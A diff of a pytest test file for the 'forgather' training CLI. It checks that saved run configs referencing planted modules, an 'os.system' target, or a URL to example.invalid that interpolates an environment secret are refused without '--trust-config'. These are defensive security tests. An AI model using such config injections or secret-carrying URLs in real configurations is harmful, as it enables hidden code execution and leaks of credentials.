@@ -11,33 +11,23 @@ from typing import Any
 
 import pytest
 import yaml
-from program import forgather
+from program import SMALL, forgather, refusal
 
-SMALL = ["model=nano", "seq_len=16", "callbacks=minimal", "global_batch_size=4", "logging_steps=1", "device=cpu",
-         "max_steps=1", "data=synthetic", "num_samples=64", "num_eval_samples=4"]  # fmt: skip
 OTHER_DATA = ["data=text", "data.files=[ok.txt]", "seq_len=16", "cache_dir=cache"]
 
 PLANTED = """
 from pathlib import Path
-
-import torch
-from torch import nn
+from users_parts import Rows, Words as Net
 
 Path("ran").touch()
 
 
-class Net(nn.Module):
-    def __init__(self, vocab_size):
-        super().__init__()
-        self.embedding, self.head = nn.Embedding(vocab_size, 8), nn.Linear(8, vocab_size)
-
-    def forward(self, input_ids):
-        return self.head(self.embedding(input_ids))
-
-
 def data():
-    rows = [{"input_ids": torch.arange(8), "labels": torch.arange(8)} for _ in range(64)]
-    return {"train": rows, "eval": rows[:4], "seq_len": 8, "tokenizer": "bytes"}
+    return {"train": Rows(""), "eval": [Rows("")[0]] * 4, "seq_len": 16, "tokenizer": "bytes"}
+
+
+def untold():
+    return {key: value for key, value in data().items() if key != "tokenizer"} | {"vocab_size": 260}
 """
 
 COMMANDS = [
@@ -58,7 +48,7 @@ COMMANDS = [
 @pytest.fixture(scope="module")
 def run_of_one_step(tmp_path_factory: pytest.TempPathFactory) -> Path:
     run = tmp_path_factory.mktemp("run") / "RUN"
-    assert forgather("train", *SMALL, f"output_dir={run}") == 0
+    assert forgather("train", *SMALL, "max_steps=1", f"output_dir={run}") == 0
     return run
 
 
@@ -87,18 +77,14 @@ def change(run: Path, **groups: Any) -> None:
 
 IMPORTS = {"_target_": "forgather_cli.targets.import_module", "name": "planted"}
 RUNS = {"_target_": "os.system", "command": "touch ran"}
+OWN = {"_target_": "planted.Net", "weight_decay": 0.0}
 CONFIGS: dict[str, dict[str, Any]] = {
     "data": {"data": IMPORTS},
     "model": {"model": RUNS},
     "trainer": {"trainer": IMPORTS},
     "loss": {"loss": RUNS},
     "optimizer": {"optimizer": IMPORTS},
-    "its groups": {
-        "optimizer": {
-            "type": "adamw",
-            "groups": {"all": {"regex": ".*", "optimizer": {"_target_": "planted.Net", "weight_decay": 0.0}}},
-        }
-    },
+    "its groups": {"optimizer": {"type": "adamw", "groups": {"all": {"regex": ".*", "optimizer": OWN}}}},
     "lr_scheduler": {"lr_scheduler": RUNS},
     "callbacks": {"callbacks": {"mine": IMPORTS}},
     "trackers": {"callbacks": {"trackers": {"names": ["planted.Net"]}}},
@@ -129,9 +115,7 @@ def test_data_of_the_runs_own(planted: Path, capsys: pytest.CaptureFixture[str])
     assert forgather("train", *own, "output_dir=RUN") == 0
     Path("ran").unlink()
     sys.modules.pop("planted")
-    capsys.readouterr()
-    assert forgather("eval", "RUN") == 2
-    said = capsys.readouterr().err
+    said = refusal(capsys, "eval", "RUN")
     assert all(word in said for word in ("data:", "planted.data", "data=text", "--trust-config"))
     assert forgather("eval", "RUN", *OTHER_DATA) == 0
     assert forgather("finalize", "RUN", "model") == 0
@@ -141,25 +125,30 @@ def test_data_of_the_runs_own(planted: Path, capsys: pytest.CaptureFixture[str])
     assert forgather("eval", "RUN", "--trust-config") == 0
     assert Path("ran").exists()
     assert forgather("finalize", "RUN", "model2", "--trust-config") == 0
-    assert (
-        json.loads(Path("model2/finalize_report.json").read_text())["proof"]["sample"] == "the run's evaluation split"
-    )
+    report = json.loads(Path("model2/finalize_report.json").read_text())
+    assert report["proof"]["sample"] == "the run's evaluation split"
     assert forgather("plan", "RUN", "--trust-config") == 0
     assert forgather("resume", "RUN", "max_steps=2") == 0
 
 
-@pytest.mark.parametrize("command", [["eval", "RUN"], ["generate", "RUN", "--prompt", "a", "--max-new-tokens", "1"]])
-def test_a_model_of_the_runs_own(planted: Path, command: list[str], capsys: pytest.CaptureFixture[str]) -> None:
-    assert forgather("train", *SMALL[1:], "model._target_=planted.Net", "output_dir=RUN") == 0
+def test_a_model_of_the_runs_own(planted: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert forgather("train", *SMALL[1:], "max_steps=1", "model._target_=planted.Net", "output_dir=RUN") == 0
     Path("ran").unlink()
     sys.modules.pop("planted")
-    capsys.readouterr()
-    assert forgather(*command) == 2
-    said = capsys.readouterr().err
-    assert "--trust-config" in said
-    assert "model._target_" in said
-    assert not Path("ran").exists()
-    assert forgather(*command, "--trust-config") == 0
+    commands = (["eval", "RUN"], ["generate", "RUN", "--prompt", "a", "--max-new-tokens", "1"])
+    for command in commands:
+        said = refusal(capsys, *command)
+        assert "--trust-config" in said
+        assert "model._target_" in said
+        assert not Path("ran").exists()
+    for command in commands:
+        assert forgather(*command, "--trust-config") == 0
+
+
+def test_a_model_and_data_of_the_runs_own_without_a_tokenizer(planted: Path) -> None:
+    own = ["model._target_=planted.Net", "data._target_=planted.untold", "callbacks=minimal", "device=cpu"]
+    assert forgather("train", *own, "max_steps=1", "output_dir=RUN") == 0
+    assert forgather("eval", "RUN", "--trust-config") == 0
 
 
 def test_a_directory_with_config_json_is_a_model(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -170,8 +159,7 @@ def test_a_directory_with_config_json_is_a_model(run: Path, capsys: pytest.Captu
     assert forgather("eval", "model", *OTHER_DATA, "max_eval_samples=2") == 0
     assert forgather("finalize", "model", "again") == 0
     assert "belongs to no run" in capsys.readouterr().err
-    assert forgather("resume", "model") == 2
-    assert "config.json" in capsys.readouterr().err
+    assert "config.json" in refusal(capsys, "resume", "model")
     assert "planted" not in sys.modules
 
 
@@ -179,14 +167,9 @@ def test_a_saved_config_does_not_read_the_environment(
     run: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setenv("MY_SECRET", "hunter2")
-    change(
-        run,
-        data={"type": "hf", "path": "https://example.invalid/${oc.env:MY_SECRET}"},
-        logging_dir="${oc.env:MY_SECRET}",
-    )
-    assert forgather("eval", "RUN") == 2
-    said = capsys.readouterr().err
+    data = {"type": "hf", "path": "https://example.invalid/${oc.env:MY_SECRET}"}
+    change(run, data=data, logging_dir="${oc.env:MY_SECRET}")
+    said = refusal(capsys, "eval", "RUN")
     assert "hunter2" not in said
-    assert "${oc.env:MY_SECRET}" in said
-    assert "--trust-config" in said
+    assert all(word in said for word in ("${oc.env:MY_SECRET}", "--trust-config"))
     assert forgather("eval", "RUN", *OTHER_DATA) == 0
